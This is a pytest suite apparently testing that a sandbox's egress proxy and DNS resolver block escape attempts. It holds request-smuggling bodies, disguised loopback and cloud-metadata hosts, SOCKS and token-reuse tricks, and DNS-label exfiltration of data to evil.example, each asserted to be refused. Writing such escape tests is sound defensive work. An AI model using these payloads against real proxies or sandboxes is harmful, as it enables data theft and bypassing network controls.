"""Ways out of a jail with a proxy: around it, and through it. What arrived is judged at the other end."""

import ipaddress
import json
import shutil
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from policy import promises
from tests.conftest import IDENTITIES
from tests.support import internet
from tests.support.features import need, need_backend
from tests.support.identity import AS_A_USER
from tests.support.install import base_python
from tests.support.internet import BANNER, MACHINE, RESOLVER, SECOND, SERVER, SERVER6
from tests.support.paddock import Paddock
from tests.support.programs import egress
from tests.support.programs.scene import SWITCHES
from tests.support.proxied import World

ALLOWED = (
    "good.example", "*.good.example", "second.example:80/public", "both.example", "six.example", "mixed.example",
    "loop.example", "loop6.example", "mapped.example", "nat.example", "own.example", "own6.example",
    "zero.example", *(f"{name}.example" for name in internet.CLOSED), "POST second.example:8000", f"{SECOND}:8000",
    "GET second.example:80/reading",
)  # fmt: skip
DENIED = ("bad.good.example", "good.example:80/secret")

Attempt = dict[str, Any]


ROOT_ONCE = pytest.mark.parametrize(
    ("backend", "who"),
    [*((each, IDENTITIES[-1]) for each in promises.BACKENDS), *((promises.GUARD, each) for each in IDENTITIES[:-1])],
    indirect=True,
)
"""Of what the proxy judges, which has no privilege whoever starts it: root where he shares its network."""


@pytest.fixture(params=promises.BACKENDS)
def backend(request: pytest.FixtureRequest) -> str:
    """Each backend in turn."""
    need("landlock")
    return need_backend(request.param)


def options(allow: Sequence[str] = ALLOWED, deny: Sequence[str] = DENIED) -> list[str]:
    """The options for these rules."""
    rules = [f"--allow-domain={rule}" for rule in allow] + [f"--deny-domain={rule}" for rule in deny]
    return ["--git=readonly", "--proxy-env=yes", *rules]


def tried(world: World, paddock: Paddock, backend: str, attempts: Sequence[Attempt], *more: str) -> dict[str, str]:
    """What became of each attempt in one jail."""
    env, choice = SWITCHES[backend]
    shutil.copy(egress.__file__, paddock.worktree / "egress.py")
    (paddock.worktree / "attempts.json").write_text(json.dumps(attempts))
    paddock.who.give(paddock.worktree)
    ended = world.run(
        paddock.who,
        paddock.words(
            "run", *choice, *(more or options()), "--", base_python(), "-I", "-S", "egress.py", "attempts.json"
        ),
        cwd=paddock.worktree,
        env=env,
    )
    assert ended.returncode == 0, ended.stderr
    answers: dict[str, str] = json.loads(ended.stdout)
    return answers


# Around the proxy. The machine's own services, the Internet's, a resolver, other hosts on the proxy's port.
AROUND: list[Attempt] = [
    {"act": act, "host": host, "port": port, "name": f"{act} {host} {port}"}
    for act, host, port in [
        *(("tcp", host, port) for host in (SERVER, SERVER6, f"::ffff:{SERVER}", MACHINE) for port in (80, 3128)),
        *(("tcp", RESOLVER, port) for port in (53, 853)),
        *(("tcp", host, 8000) for host in ("127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0")),
        *(("mptcp", host, 80) for host in (SERVER, MACHINE)),
        *(("fastopen", host, 80) for host in (SERVER, MACHINE)),
        *(("udp", host, port) for host in (SERVER, SERVER6, RESOLVER, MACHINE, "127.0.0.1") for port in (53, 9999)),
        ("udp", f"::ffff:{SERVER}", 9999),
        ("resolve", "good.example", 80),
    ]
]


def test_nothing_leaves_around_the_proxy(world: World, paddock: Paddock, backend: str) -> None:
    """By no protocol, to no address, not even to an allowed host; the same jail reaches it through the proxy."""
    before = len(world.seen())
    twins = [plain("twin", "http://good.example/through"), {"act": "listen", "name": "own loopback"}]
    answers = tried(world, paddock, backend, [*AROUND, *twins])
    assert answers.pop("twin").startswith("HTTP/1.1 200 ")
    if promises.has_mounts(backend):
        assert answers.pop("own loopback") == "connected"
    else:
        assert "PermissionError" in answers.pop("own loopback")
    sent = {name for name, answer in answers.items() if "rror: " not in answer}
    # With mounts the loopback is the jail's own: datagrams there go nowhere, without an error, and port 8000, which a
    # rule names, is the way to hosts by name: who means none is hung up on. A name's address is one of those.
    own = ("udp 127.0.0.1", "tcp 127.0.0.1 8000", "tcp ::1 8000", "tcp ::ffff:127.0.0.1 8000", "tcp 0.0.0.0 8000",
           "resolve good.example")  # fmt: skip
    assert not {name for name in sent if not (promises.has_mounts(backend) and name.startswith(own))}
    seen = world.seen(before)
    assert {(entry["kind"], entry.get("what")) for entry in seen} == {
        ("dns", "good.example"), ("tcp", None), ("request", "GET /through"),
    }  # fmt: skip


def plain(
    name: str, url: str, *, host: str | None = None, method: str = "GET", more: str = "", body: str = ""
) -> Attempt:
    """A request over plain HTTP with the token."""
    authority = url.partition("//")[2].partition("/")[0] if host is None else host
    head = f"{method} {url} HTTP/1.1\r\nHost: {authority}\r\n{{auth}}{more}\r\n"
    return {"act": "words", "name": name, "send": head + body}


def tunnel(name: str, authority: str, *then: str, more: str = "") -> Attempt:
    """CONNECT, with the token."""
    return {"act": "words", "name": name, "then": then,
            "send": f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{{auth}}{more}\r\n"}  # fmt: skip


def by_socks(name: str, host: str, port: int, **more: object) -> Attempt:
    """SOCKS5: a name, or an address in brackets."""
    if host.startswith("["):
        packed = ipaddress.ip_address(host.strip("[]")).packed
        kind = b"\1" if len(packed) == 4 else b"\4"
    else:
        packed = bytes((len(host.encode("latin-1")),)) + host.encode("latin-1")
        kind = b"\3"
    return {"act": "socks", "name": name, "address": (kind + packed + port.to_bytes(2, "big")).hex(), **more}


SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: second.example\r\n\r\n"
GET = "GET /inside HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n"

# fmt: off
DISGUISES = [
    "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1", "0", "[::1]", "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]", "[fe80::1%25lo]", "[::1%lo]", "good.example%00.evil.example", "good.example\0.evil.example",
    "good%2eexample.evil",
    "u:p@good.example", "evil.example\\good.example", "good.example\\@evil.example", "evil.example#good.example",
    "ｇood.example".encode().decode("latin-1"), "xn--.example", "xn--good-.example", "evil.example",
    "good.example.evil.example", "good.example..", ".good.example", "good_.example", f"{SERVER}", f"[{SERVER6}]",
    "169.254.169.254", "10.9.9.9",
    "metadata.example", "private.example", "private-c.example", "metadata-shared.example", "platform.example",
    "private6.example", "loop.example", "loop6.example", "mapped.example", "nat.example", "own.example", "own6.example",
    "zero.example", "bad.good.example", "localhost", "not-there.example",
]
# fmt: on
PASSING = [
    "good.example",
    "GOOD.Example",
    "good.example.",
    "www.good.example",
    "six.example",
    "both.example",
    "mixed.example",
]


@ROOT_ONCE
def test_nothing_leaves_through_the_proxy_but_what_is_allowed(world: World, paddock: Paddock, backend: str) -> None:
    """Disguised hosts, mismatches, smuggled requests, wrong tokens: denied, with an allowed twin for each form."""
    before = len(world.seen())
    attacks: list[Attempt] = []
    twins: list[Attempt] = []
    for host in DISGUISES:
        name = host if host.isprintable() else repr(host)
        attacks += [plain(f"GET {name}", f"http://{host}:8000/x"), tunnel(f"CONNECT {name}", f"{host}:8000", GET)]
        if host != "not-there.example":
            attacks.append(by_socks(f"SOCKS {name}", host, 8000, send=GET))
    for host in PASSING:
        twins += [plain(f"GET {host}", f"http://{host}/x"), tunnel(f"CONNECT {host}", f"{host}:8000", GET)]
        twins.append(by_socks(f"SOCKS {host}", host, 8000, send=GET))
    attacks += [
        plain("another port", "http://second.example:8000/public"),
        plain("another path", "http://second.example/secret"),
        plain("a path in disguise", "http://second.example/public/%2e%2e/secret"),
        plain("a denied path", "http://good.example/secret/x"),
        plain("a denied path in disguise", "http://good.example/%73ecret"),
        tunnel("a tunnel around a denied path", "good.example:80", GET),
        tunnel("a tunnel where only a path is allowed", "second.example:80", GET),
        plain("another Host", "http://good.example/x", host="evil.example"),
        tunnel("another Host in CONNECT", "good.example:80", GET, more="Host: evil.example\r\n"),
        plain("both lengths", "http://good.example/x", method="POST", body="0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
              more="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"),
        plain("two lengths", "http://good.example/x", method="POST", body="GET /smuggled HTTP/1.1\r\n\r\n",
              more="Content-Length: 0\r\nContent-Length: 26\r\n"),
        plain("an obscure coding", "http://good.example/x", method="POST", body="0\r\n\r\n",
              more="Transfer-Encoding: chunked, identity\r\n"),
        plain("content by a method that has none", "http://second.example/reading", body=SMUGGLED,
              more=f"Content-Length: {len(SMUGGLED)}\r\n"),
        plain("chunks by a method that has no content", "http://second.example/reading", body=f"0\r\n\r\n{SMUGGLED}",
              more="Transfer-Encoding: chunked\r\n"),
        plain("another method", "http://second.example/reading", method="POST", more="Content-Length: 0\r\n"),
        *(plain(f"a method or path in {name}", "http://second.example/reading", more=f"{name}: {value}\r\n")
          for name, value in (("X-HTTP-Method-Override", "POST"), ("X_Method_Override", "PUT"),
                              ("X-Original-URL", "/secret"), ("X-Rewrite-URL", "/secret"))),
        plain("a path in too many bytes", "http://second.example/public/%c0%ae%c0%ae/secret"),
        plain("no whole URL", "/x", host="good.example"),
        plain("https in the clear", "https://good.example/x"),
        {"act": "words", "name": "no token", "send": "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"},
        plain("a wrong token", "http://good.example/x") | {"token": "0" * 32},
        {"act": "words", "name": "TLS to the proxy", "send": "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"},
        {"act": "words", "name": "SOCKS4", "send": "\x04\x01\x00\x50\x0b\x01\x00\x0a\x00"},
        {"act": "words", "name": "too long a head", "send": "GET http://good.example/x HTTP/1.1\r\nX: " + "a" * 70000},
        by_socks("SOCKS without a password", "good.example", 80, greeting="050100"),
        by_socks("SOCKS with a wrong token", "good.example", 80, token="0" * 32),
        by_socks("SOCKS bind", "good.example", 80, command=2),
        by_socks("SOCKS UDP", "good.example", 80, command=3),
        *(by_socks(f"SOCKS {address}", f"[{address}]", 8000)
          for address in ("127.0.0.1", "::1", "::ffff:127.0.0.1", SERVER, SERVER6, "169.254.169.254")),
    ]  # fmt: skip
    twins += [
        plain("the path", "http://second.example/public/x"),
        plain("the method", "http://second.example/reading/x", more="Content-Length: 0\r\n"),
        plain("fields behind the content", "http://good.example/x", method="POST",
              more="Transfer-Encoding: chunked\r\n", body="4\r\nabcd\r\n0\r\nX-Original-URL: /secret\r\n\r\n"),
        plain("an address by rule", f"http://{SECOND}:8000/x"),
        by_socks("SOCKS to an address by rule", f"[{SECOND}]", 8000, send=GET),
        plain("a body", "http://good.example/x", method="POST", body="abcd", more="Content-Length: 4\r\n"),
        plain("chunks", "http://good.example/x", method="POST", body="4\r\nabcd\r\n0\r\n\r\n",
              more="Transfer-Encoding: chunked\r\n"),
        plain("a request behind a bare line feed", "http://good.example/x", more="X: 1\n\nGET /smuggled HTTP/1.1\r\n"),
        plain("a request behind a request", "http://good.example/first") | {
            "send": plain("", "http://good.example/first")["send"] + "GET http://good.example/second HTTP/1.1\r\n\r\n"},
        tunnel("a server that speaks first", "good.example:22"),
        # Neither leaves the server that the tunnel was opened to, nor is it a request to the proxy.
        tunnel("a second request in one tunnel", "good.example:8000", GET.replace("Connection: close\r\n", ""),
               "GET http://evil.example:8000/second HTTP/1.1\r\nHost: evil.example:8000\r\nConnection: close\r\n\r\n"),
    ]  # fmt: skip
    answers = tried(world, paddock, backend, [*attacks, *twins])
    seen = world.seen(before)

    got = {attempt["name"]: answers[attempt["name"]][:60] for attempt in attacks}
    fine = {name for name, answer in got.items() if answer.startswith(("HTTP/1.1 2", "reply 00"))}
    assert not fine
    statuses = ("HTTP/1.1 403 ", "HTTP/1.1 400 ", "HTTP/1.1 407 ", "HTTP/1.1 431 ", "HTTP/1.1 501 ")
    odd = {name: a for name, a in got.items() if not a.startswith((*statuses, "reply 0", "method 05ff", "bad token"))}
    assert odd == {}
    assert got["GET not-there.example"].startswith("HTTP/1.1 403 ")
    assert got["GET metadata.example"].startswith("HTTP/1.1 403 Blocked by Paddock: metadata.example resolves")
    assert got["no token"].startswith("HTTP/1.1 407 ")

    for attempt in twins:
        assert answers[attempt["name"]].startswith(("HTTP/1.1 200 ", "reply 00 HTTP/1.1 200 ")), answers[
            attempt["name"]
        ]
    assert BANNER.decode() in answers["a server that speaks first"]
    assert answers["a second request in one tunnel"].count("HTTP/1.1 200 ") == 3
    for name in ("a body", "chunks"):
        assert '"body": "abcd"' in answers[name]
    assert not [entry for entry in seen if entry["side"] == "machine"]
    arrived = {(entry["address"], entry["port"]) for entry in seen if entry["kind"] != "dns"}
    assert arrived == {(SERVER, port) for port in (80, 8000, 22)} | {
        (SERVER6, 80),
        (SERVER6, 8000),
        (SECOND, 80),
        (SECOND, 8000),
    }
    requests = {entry["what"].split()[1] for entry in seen if entry["kind"] == "request"}
    assert requests == {"/x", "/inside", "/first", "/public/x", "/reading/x", "http://evil.example:8000/second"}
    asked = {entry["what"] for entry in seen if entry["kind"] == "dns"}
    assert asked <= {rule.partition(":")[0] for rule in ALLOWED} | {"www.good.example"}


def asked(name: str, host: str, kind: int = 1, *, tcp: bool = False, raw: bytes = b"", head: bytes = b"") -> Attempt:
    """A question to the jail's resolver, in the form of RFC 1035; `raw` stands for the name as it is sent."""
    labels = b"".join(bytes((len(label),)) + label for label in host.encode("latin-1").split(b".") if label)
    send = (head or bytes.fromhex("0001 0100 0001 0000 0000 0000")) + (raw or labels + b"\0") + bytes((0, kind, 0, 1))
    return {"act": "dns", "name": name, "send": send.hex(), "tcp": tcp}


def named(name: str, host: str, port: int, send: str = "") -> Attempt:
    """A connection to a host by its name."""
    return {"act": "by name", "name": name, "host": host, "port": port, "send": send}


_DATA = "c2VjcmV0" * 7  # what an attacker would have carried away
BEHIND = " HTTP/1.1\r\nHost: second.example\r\n\r\n"
NAMED = (promises.NAMESPACES, promises.BUBBLEWRAP)
FAKE, FAKE6 = "198.18.0.99", "2001:2::99"


@pytest.mark.parametrize(
    ("backend", "who"),
    [*((each, IDENTITIES[-1]) for each in NAMED), *((NAMED[0], each) for each in IDENTITIES[:-1])],
    indirect=["who"],
)
def test_nothing_leaves_by_name_but_what_is_allowed(world: World, paddock: Paddock, backend: str) -> None:
    """Names as a channel, forms of one name, addresses of nobody, other ports: denied, with an allowed twin each."""
    need_backend(backend)
    before = len(world.seen())
    refused = [
        asked("labels", f"{_DATA}.evil.example"), asked("labels over TCP", f"{_DATA}.evil.example", tcp=True),
        *(asked(f"kind {kind}", f"{_DATA}.evil.example", kind)
          for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 255)),
        asked("a service's labels", "_https._tcp.good.example", 33), asked("reverse", "99.0.18.198.in-addr.arpa", 12),
        asked("not there", "not-there.good.example"), asked("denied", "bad.good.example"),
        asked("below what is allowed", "x.second.example"), asked("a prefix", "good.example.evil.example"),
        asked("a number", "2130706433"),
        asked("an address", "127.0.0.1"), asked("metadata", "169.254.169.254"), asked("a NUL", "good\0.example"),
    ]  # fmt: skip
    broken = [
        asked("a pointer", "", raw=b"\xc0\x0c"), asked("a dot in a label", "", raw=b"\x0cgood.example\0"),
        asked("no end", "", raw=b"\x3fabc"),
        asked("two questions", "good.example", head=bytes.fromhex("0001 0100 0002 0000 0000 0000")),
        asked("an update", "good.example", head=bytes.fromhex("0001 2800 0001 0000 0000 0000")),
        asked("an answer", "good.example", head=bytes.fromhex("0001 8180 0001 0000 0000 0000")),
        asked("too long", "good.example", raw=b"\x3f" + b"a" * 63 + b"\0" + b"b" * 600),
        {"act": "dns", "name": "nothing", "send": "00"},
    ]  # fmt: skip
    closed = [
        named("nobody's address", FAKE, 80, GET), named("nobody's address of IPv6", FAKE6, 80, GET),
        named("another port", "good.example", 53, GET), named("a port of another rule", "second.example", 443, GET),
        named("a path", "second.example", 80, f"GET /secret{BEHIND}"),
        named("another Host", "second.example", 80, "GET /public HTTP/1.1\r\nHost: good.example\r\n\r\n"),
        named("TLS where only requests are allowed", "second.example", 80, "\x16\x03\x01\0\1"),
        named("a denied path", "good.example", 80, "GET /secret HTTP/1.1\r\nHost: good.example\r\n\r\n"),
        named("CONNECT", "second.example", 80, "CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        named("a whole URL", "second.example", 80, f"GET http://second.example/public{BEHIND}"),
        *(named(f"{name} inside", f"{name}.example", 80, GET)
          for name in ("metadata", "private", "private6", "loop", "mapped", "nat", "own", "zero")),
    ]  # fmt: skip
    twins = [
        named("twin", "good.example", 80, GET), named("capitals", "GOOD.Example.", 8000, GET),
        named("below", "www.good.example", 80, GET), named("IPv6 outside", "six.example", 80, GET),
        named("the path", "second.example", 80, f"GET /public{BEHIND}"),
        named("an address by rule", SECOND, 8000, GET), named("speaks first", "good.example", 22),
        named("a second request", "second.example", 80, f"GET /public{BEHIND}{SMUGGLED}"),
    ]  # fmt: skip
    found = [
        asked("found", "good.example"), asked("found over TCP", "good.example", tcp=True),
        asked("mixed", "gOoD.eXaMpLe"), asked("of IPv6", "good.example", 28), asked("own", "localhost"),
    ]  # fmt: skip
    answers = tried(world, paddock, backend, [*refused, *broken, *closed, *twins, *found])
    seen = world.seen(before)
    assert {name for attempt in refused if answers[name := attempt["name"]] != "3 0"} == set()
    assert {
        name for attempt in broken if not answers[name := attempt["name"]].startswith(("1 0", "4 0", "silent"))
    } == set()
    assert {name for attempt in found if answers[name := attempt["name"]] != "0 1"} == set()
    for attempt in closed:
        answer = answers[attempt["name"]]
        assert "rror: " in answer or answer.startswith(("closed", "HTTP/1.1 40")), (attempt["name"], answer)
    for attempt in twins:
        answer = answers[attempt["name"]]
        assert answer.startswith(("HTTP/1.1 200 ", BANNER.decode())), (attempt["name"], answer)
    assert {entry["side"] for entry in seen} == {"internet"}
    # The machine has a search list, which would turn one allowed name that is not there into another one.
    assert "not-there.good.example" in {entry["what"] for entry in seen if entry["kind"] == "dns"}
    assert not [entry for entry in seen if ".good.example.good.example" in str(entry)]
    assert not [entry for entry in seen if _DATA in str(entry) or "evil" in str(entry) or "smuggled" in str(entry)]
    assert {entry["what"] for entry in seen if entry["kind"] == "request"} <= {"GET /inside", "GET /public"}
    assert {entry["port"] for entry in seen if entry["kind"] == "tcp"} == {22, 80, 8000}


@AS_A_USER
def test_a_dead_zone_holds_up_no_other_name(world: World, paddock: Paddock) -> None:
    """Hundreds of its names wait for a resolver that says nothing, while names of other rules are found."""
    hosts = ["good.example", "second.example", "six.example"]
    attempts = [{"act": "hammer", "name": "hammer", "count": 300, "zone": internet.DEAD[1:], "hosts": hosts}]
    before = len(world.seen())
    answers = tried(world, paddock, promises.NAMESPACES, attempts, *options([f"*{internet.DEAD}", *hosts], ()))
    waiting, _, found = answers["hammer"].partition(" wait, ")
    assert int(waiting) > 0, answers
    assert found.count("198.18.0.") + found.count("2001:2::") == len(hosts), answers
    asked_for = [entry["what"] for entry in world.seen(before) if entry["kind"] == "dns"]
    assert len({name for name in asked_for if name.endswith(internet.DEAD)}) <= 8


@AS_A_USER
def test_an_answer_that_changes_meanwhile_changes_nothing(world: World, paddock: Paddock) -> None:
    """What was checked is what is dialled, as long as it is remembered; a session that asks anew is refused."""
    before = len(world.seen())
    name = f"flip-{paddock.who.name}.example"
    attempts = [plain("by the proxy", f"http://{name}:8000/x"), named("by name", name, 8000, GET)]
    rules = options([f"{name}:8000"], ())
    answers = tried(world, paddock, promises.NAMESPACES, attempts, *rules)
    assert all(answer.startswith("HTTP/1.1 200 ") for answer in answers.values()), answers
    assert len([entry for entry in world.seen(before) if entry["kind"] == "dns"]) == 2  # A and AAAA
    later = tried(world, paddock, promises.NAMESPACES, attempts, *rules)
    assert f"{name} resolves to 127.0.0.1, which is loopback" in later["by the proxy"]
    assert later["by name"].startswith("HTTP/1.1 403 "), later
    assert {entry["side"] for entry in world.seen(before)} == {"internet"}


@AS_A_USER
def test_why_names_every_rule_that_a_private_host_needs(world: World, paddock: Paddock) -> None:
    """Before any rule is there; with what it names the host is reached, and a public host needs one rule only."""
    said = world.run(paddock.who, paddock.words("why", "private.example:8000"), cwd=paddock.worktree)
    flags = "--net proxy --allow-domain private.example:8000 --allow-domain 10.9.9.9:8000"
    assert f"to allow it {flags}" in said.stdout, said
    assert "leads to    10.9.9.9" in said.stdout
    program = ("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "http://private.example:8000/x")
    for words, code in ((flags.split(), "200"), (flags.split()[:4], "403")):
        ended = world.run(paddock.who, paddock.words("run", *words, "--", *program), cwd=paddock.worktree)
        assert ended.stdout == code, ended
    said = world.run(paddock.who, paddock.words("why", "good.example", "--json"), cwd=paddock.worktree)
    content = json.loads(said.stdout)
    assert content["allow"]["flag"].endswith("--allow-domain good.example:443")
    assert content["leads_to"] == SERVER


@AS_A_USER
def test_a_redirect_is_judged_like_any_request(world: World, paddock: Paddock) -> None:
    """The answer passes, and where it leads to is denied, or allowed."""
    program = "curl -sS -L -o /dev/null -w '%{http_code}\\n' 'http://good.example/redirect?to=http://'$1'/landed'"
    for target, code in ((f"{MACHINE}:8000", "403"), ("169.254.169.254", "403"), ("www.good.example", "200")):
        before = len(world.seen())
        words = paddock.words("run", *options(), "--", "sh", "-c", program, "sh", target)
        ended = world.run(paddock.who, words, cwd=paddock.worktree)
        assert ended.stdout.splitlines()[-1] == code, ended
        landed = [entry for entry in world.seen(before) if entry.get("what") == "GET /landed"]
        assert bool(landed) == (code == "200")


@pytest.fixture
def shouting(world: World, paddock: Paddock, backend: str) -> Iterator[tuple[str, int]]:
    """Another session that lives meanwhile: its token and its proxy's port."""
    env, choice = SWITCHES[backend]
    words = paddock.words("run", *choice, *options(), "--", "sh", "-c", "echo $HTTP_PROXY; exec cat")
    with world.start(paddock.who, words, cwd=paddock.worktree, env=env) as process:
        assert process.stdout is not None
        url = process.stdout.readline().strip()
        yield url.partition("@")[0].rpartition(":")[2], int(url.rpartition(":")[2])
        process.communicate("")


@ROOT_ONCE
def test_another_session_is_no_way_out(world: World, paddock: Paddock, backend: str, shouting: tuple[str, int]) -> None:
    """Its token is worth nothing here, and its port cannot be reached; on the machine its port wants the token."""
    token, port = shouting
    attempts = [
        plain("its token", "http://good.example/x") | {"token": token},
        by_socks("its token by SOCKS", "good.example", 80, token=token),
        {"act": "tcp", "host": "127.0.0.1", "port": port, "name": "its port"},
        plain("twin", "http://good.example/x"),
    ]
    answers = tried(world, paddock, backend, attempts)
    assert answers["its token"].startswith("HTTP/1.1 407 ")
    assert answers["its token by SOCKS"] == "bad token"
    assert answers["twin"].startswith("HTTP/1.1 200 ")
    line = f"curl -s -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:{port} http://good.example/x"
    outside = world.run(paddock.who, ["sh", "-c", f"{line}; {line} -U paddock:{token}"], cwd=paddock.place)
    if promises.has_mounts(backend):
        assert answers["its port"] == "connected"  # the own one: both are 3128, each in its own namespace
        assert outside.stdout == "000000" or port == 3128
    else:
        assert "PermissionError" in answers["its port"]
        assert outside.stdout == "407200"
